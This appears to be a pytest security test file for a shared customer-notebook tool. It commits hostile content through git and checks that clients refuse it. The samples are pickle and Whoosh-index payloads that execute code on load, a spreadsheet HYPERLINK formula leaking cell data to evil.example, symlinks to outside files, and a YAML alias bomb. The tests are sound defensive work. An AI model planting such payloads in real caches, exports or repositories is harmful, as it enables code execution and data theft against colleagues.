"""Hostile notebooks (issue 11, docs/security.md): what a colleague with push access commits
arrives by ``custnote clone`` or ``custnote sync`` and must never run code, reach outside the
notebook, or reach Excel as a formula. The attacker ("mallory") uses plain git, as a real one
would; every test shows that no code ran (the marker file never appears), that nothing outside
the notebook changed (hashes), and that the user got one clear line."""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import pickle
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from gitfixtures import Colleague, Team, git, invoke_plain, team_fixture  # noqa: F401

from custnote.core.checks.caches import LEGACY_PATHS

YAMADA = ["add", "山田 太郎", "--kana", "やまだ たろう", "--phone", "03-5555-0199"]
FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"x")'


class Payload:
    """Unpickling this writes ``marker``: what a crafted cache would do on the victim's machine."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (exec, (f"open({str(self.marker)!r}, 'w').write('code ran')",))


def evil_search_index(folder: Path, marker: Path) -> None:
    """A real Whoosh index whose table of contents runs code when opened (Whoosh pickles the
    schema into it): what a committed ``.custnote/cache/search/`` could hold."""
    from whoosh import fields, index

    class EvilField(fields.ID):
        def __reduce__(self):
            return Payload(marker).__reduce__()

    folder.mkdir(parents=True, exist_ok=True)
    index.create_in(str(folder), fields.Schema(path=fields.ID(stored=True), x=EvilField()))


def tree_hashes(folder: Path) -> dict[str, str]:
    """sha256 of every file below ``folder`` (links not followed), to show nothing changed."""
    found = {}
    for dirpath, _dirs, files in os.walk(folder):
        for name in files:
            path = Path(dirpath) / name
            if not path.is_symlink():
                found[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    return tmp_path / "code-ran.txt"


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder of the victim's that is not the notebook: a note-looking file and a dotfile."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret-aaaaaa.md").write_text("---\nid: secret\nname: 社外秘\n---\n極秘メモ\n")
    (folder / "bashrc").write_text("export PATH=$HOME/bin:$PATH\n")
    return folder


@pytest.fixture
def sato(team: Team) -> Colleague:
    """The victim: founds the notebook with one customer and shares it."""
    person = team.founder("sato")
    person.run(*YAMADA)
    person.run("sync")
    return person


@pytest.fixture
def mallory(team: Team, sato: Colleague) -> Path:
    """The attacker's plain git clone of the team's notebook."""
    return team.git_clone("mallory")


def push(repo: Path, message: str) -> None:
    git(repo, "add", "-f", "-A")
    git(repo, "commit", "-q", "-m", message)
    git(repo, "push", "-q", "origin", "HEAD:main")


def one_line(stderr: str) -> str:
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert len(lines) == 1, stderr
    return lines[0]


# ---------------------------------------------------------------------- caches


def commit_cache_payloads(repo: Path, marker: Path) -> list[str]:
    """A pickle at every path custnote has ever used for a cache, plus a live Whoosh index."""
    blob = pickle.dumps(Payload(marker))
    names = [
        "catalog.pickle", "archive.pickle", "agenda.pickle", "stats.pickle",
        "stats-results.pickle", "facts.json", "agenda.json", "stats.json", "config.json",
        "catalog/customers~ya.pickle", "catalog/customers~ya.msgpack", "agenda/customers~ya.pickle",
        "stats/customers~ya.pickle", "archive/archive~ya.pickle",
    ]  # fmt: skip
    for name in names:
        path = repo / ".custnote" / "cache" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(blob)
    evil_search_index(repo / ".custnote" / "cache" / "search", marker)
    (repo / ".custnote" / "recovery").mkdir()
    (repo / ".custnote" / "recovery" / "yamada.md").write_bytes(blob)
    (repo / ".custnote" / "lock").write_bytes(blob)
    push(repo, "caches")
    return [p for p in git(repo, "ls-files", ".custnote").split() if p != ".custnote/config.yaml"]


def test_the_payloads_are_live(tmp_path: Path, marker: Path) -> None:
    """The attack files really run code when read the way an old custnote read them."""
    pickle.loads(pickle.dumps(Payload(marker)))
    assert marker.read_text() == "code ran"
    marker.unlink()
    from whoosh import index

    evil_search_index(tmp_path / "ix", marker)
    with contextlib.suppress(Exception):  # the schema may be broken: the code ran before
        index.open_dir(str(tmp_path / "ix"))
    assert marker.read_text() == "code ran"


def test_committed_caches_never_run_arriving_by_clone(
    team: Team, mallory: Path, marker: Path
) -> None:
    tracked = commit_cache_payloads(mallory, marker)
    assert len(tracked) > 15
    ito = team.join("ito")
    for args in (["list"], ["show", "yamada"], ["search", "山田"], ["who", "0355550199"],
                 ["agenda"], ["stats"], ["log", "yamada", "電話した"]):  # fmt: skip
        result = ito.run(*args)
        warning = one_line(result.stderr)
        assert "old cache paths, never read" in warning and ".custnote/cache/" in warning
        assert not marker.exists(), f"code ran during {args}"
    assert "山田 太郎" in ito.run("show", "yamada").stdout


def test_committed_caches_never_run_arriving_by_sync_and_check_fix_untracks_them(
    sato: Colleague, mallory: Path, marker: Path
) -> None:
    tracked = commit_cache_payloads(mallory, marker)
    result = sato.run("sync")
    assert "team settings changed" in result.stdout
    assert ".custnote/cache/catalog.pickle (old cache path, never read)" in result.stdout
    assert "Nothing new" not in result.stdout
    assert ".custnote/cache/" in one_line(result.stderr), "warned once, naming them"
    for args in (["list"], ["show", "yamada"], ["search", "山田"], ["who", "0355550199"]):
        assert "old cache paths" in one_line(sato.run(*args).stderr)
    assert not marker.exists()

    before = sato.git("rev-list", "--count", "HEAD")
    fixed = sato.run("check", "--fix")
    assert int(sato.git("rev-list", "--count", "HEAD")) == int(before) + 1, "one commit"
    assert sato.git("ls-files", ".custnote").split() == [".custnote/config.yaml"]
    assert sato.git("status", "--porcelain") == ""
    kept = next((sato.root / ".git" / "custnote" / "removed").iterdir())
    assert sorted(str(p.relative_to(kept)) for p in kept.rglob("*") if p.is_file()) == sorted(
        tracked
    ), "every removed file is kept in the private state"
    assert "untracked" in fixed.stdout
    assert sato.run("show", "yamada").stderr == "", "no more warning"
    assert not any((sato.root / p.rstrip("/")).exists() for p in LEGACY_PATHS)
    assert not marker.exists()


# ---------------------------------------------------------------------- links


def test_a_linked_bucket_is_refused_on_read_and_write(
    sato: Colleague, mallory: Path, outside: Path
) -> None:
    os.symlink(outside, mallory / "customers" / "ta")
    push(mallory, "a bucket that is a link")
    before = tree_hashes(outside)
    sato.run("sync")
    assert (sato.root / "customers" / "ta").is_symlink()
    for args in (["list"], ["show", "社外秘"], ["add", "田中 一郎", "--kana", "たなか いちろう"]):
        result = sato.run(*args, ok=False)
        assert result.exit_code == 1
        line = one_line(result.stderr)
        assert "customers/ta" in line and "symbolic link" in line and "Traceback" not in line
        assert "極秘" not in result.stdout
    assert tree_hashes(outside) == before, "nothing outside changed"
    assert sorted(p.name for p in outside.iterdir()) == ["bashrc", "secret-aaaaaa.md"]
    check = json.loads(sato.run("check", "--json", ok=False).stdout)
    assert [(f["check"], f["path"]) for f in check["findings"]] == [("links", "customers/ta")]


def test_a_linked_note_is_never_read_nor_written_through(
    sato: Colleague, mallory: Path, outside: Path, tmp_path: Path
) -> None:
    note = next((mallory / "customers" / "ya").glob("*.md"))
    note.unlink()
    os.symlink(outside / "bashrc", note)
    push(mallory, "a note that is a link")
    before = tree_hashes(outside)
    sato.run("sync")
    history = tmp_path / "h.csv"
    history.write_text("顧客,日時,種別,内容\r\n山田 太郎,2026/11/19 14:30,訪問,追記\r\n")
    for args in (["show", "yamada"], ["log", "yamada", "x"], ["import", "--log", str(history)]):
        result = sato.run(*args, ok=False)
        assert result.exit_code != 0
        assert "symbolic link" in one_line(result.stderr) and note.name in result.stderr
    search = sato.run("search", "PATH", ok=False)
    assert "bashrc" not in search.stdout and "export" not in search.stdout
    assert tree_hashes(outside) == before


def test_a_linked_gitattributes_is_never_read_nor_sent(
    team: Team, sato: Colleague, mallory: Path, outside: Path
) -> None:
    (mallory / ".gitattributes").unlink()
    os.symlink(outside / "bashrc", mallory / ".gitattributes")
    push(mallory, "gitattributes is a link")
    before = tree_hashes(outside)
    sato.run("sync")
    again = sato.run("sync", ok=False)
    assert again.exit_code == 1
    assert ".gitattributes: is a symbolic link" in one_line(again.stderr)
    sent = git(team.remote, "log", "-p", "--all")
    assert "export PATH" not in sent, "the file behind the link never reached the remote"
    assert tree_hashes(outside) == before


# ---------------------------------------------------------------------- formulas


def test_formulas_from_a_colleague_reach_excel_as_text_and_round_trip(
    sato: Colleague, mallory: Path, tmp_path: Path
) -> None:
    evil = mallory / "customers" / "zz" / "evil-evbad2.md"
    evil.parent.mkdir()
    evil.write_text(
        f"---\nid: evbad2\nname: '{FORMULA}'\ncompany: '@SUM(1+1)'\nphones: ['+81 3 5555 0100']\n"
        "---\n",
        encoding="utf-8",
    )
    push(mallory, "a formula")
    sato.run("sync")
    csv_path, xlsx_path = tmp_path / "out.csv", tmp_path / "out.xlsx"
    sato.run("export", "-o", str(csv_path))
    sato.run("export", "-o", str(xlsx_path))
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert f"'{FORMULA}" in cells and "'@SUM(1+1)" in cells and "'+81 3 5555 0100" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    sheet = zipfile.ZipFile(io.BytesIO(xlsx_path.read_bytes())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet, "no formula cell in the workbook"

    for source in (csv_path, xlsx_path):
        target = tmp_path / f"back-{source.suffix[1:]}"
        invoke_plain(["init", str(target)])
        fresh = Colleague("kato", target)
        fresh.run("import", str(source))
        exported = json.loads(fresh.run("list", "--json").stdout)
        names = {c["name"]: c["fields"] for c in exported}
        assert names[FORMULA]["company"] == "@SUM(1+1)", source
        assert names[FORMULA]["phones"] == ["+81 3 5555 0100"]


# ---------------------------------------------------------------------- YAML aliases


LAUGHS = "\n".join(
    [
        "---",
        "id: laughs",
        'name: "lol"',
        'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
    ]
    + [f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]" for n in range(8)]
    + ["---", ""]
)


def test_alias_fan_out_is_refused_quickly_and_never_committed(
    sato: Colleague, mallory: Path, marker: Path
) -> None:
    assert len(LAUGHS) < 700
    laughs = mallory / "customers" / "lo" / "lol-laughs.md"
    laughs.parent.mkdir()
    laughs.write_text(LAUGHS, encoding="utf-8")
    push(mallory, "alias fan-out")
    sato.run("sync")
    shown = subprocess.run(
        [sys.executable, "-m", "custnote", "-N", str(sato.root), "show", "laughs"],
        capture_output=True, text=True, timeout=30,
    )  # fmt: skip
    assert shown.returncode == 1
    line = one_line(shown.stderr)
    assert "customers/lo/lol-laughs.md" in line and "anchors and aliases" in line
    assert "山田 太郎" in sato.run("search", "山田").stdout, "search still works"
    head = sato.git("rev-parse", "HEAD")
    refused = sato.run("log", "laughs", "x", ok=False)
    assert refused.exit_code != 0 and "anchors and aliases" in one_line(refused.stderr)
    # a hand edit that adds an alias is not committed (nor pushed) by sync
    note = next((sato.root / "customers" / "ya").glob("*.md"))
    note.write_text(note.read_text().replace("---\n", "---\nx: &x [1]\ny: *x\n", 1))
    refused = sato.run("sync", ok=False)
    assert refused.exit_code == 1 and "anchors and aliases" in one_line(refused.stderr)
    assert sato.git("rev-parse", "HEAD") == head


# ---------------------------------------------------------------------- templates and settings


@pytest.mark.parametrize("field", ["id: fixed1", "created: 2020-01-01", "phones: ['03-0000-0000']"])
def test_a_template_with_a_forbidden_field_is_one_clear_error(
    sato: Colleague, mallory: Path, field: str
) -> None:
    template = mallory / ".custnote" / "templates" / "default.md"
    template.parent.mkdir()
    template.write_text(f"---\n{field}\nowner: mallory\n---\n", encoding="utf-8")
    push(mallory, "a template")
    report = json.loads(sato.run("sync", "--json").stdout)
    assert report["settings_changed"] == [".custnote/templates/default.md (template)"]
    head = sato.git("rev-parse", "HEAD")
    result = sato.run("add", "鈴木 一郎", ok=False)
    assert result.exit_code == 2
    line = one_line(result.stderr)
    assert "default.md" in line and repr(field.split(":")[0]) in line
    assert sato.git("rev-parse", "HEAD") == head, "nothing committed"


def test_sync_names_every_setting_that_arrived(sato: Colleague, mallory: Path) -> None:
    config = mallory / ".custnote" / "config.yaml"
    config.write_text(config.read_text() + "\ndormant_days: 30\n")
    with (mallory / ".gitattributes").open("a") as handle:
        handle.write("*.md merge=custnote\n")
    (mallory / "tool.sh").write_text("#!/bin/sh\n")
    push(mallory, "settings")
    out = sato.run("sync").stdout
    assert (
        "team settings changed: .custnote/config.yaml (settings), .gitattributes (how git merges "
        "notes), tool.sh"
    ) in out.replace("\n", " ")
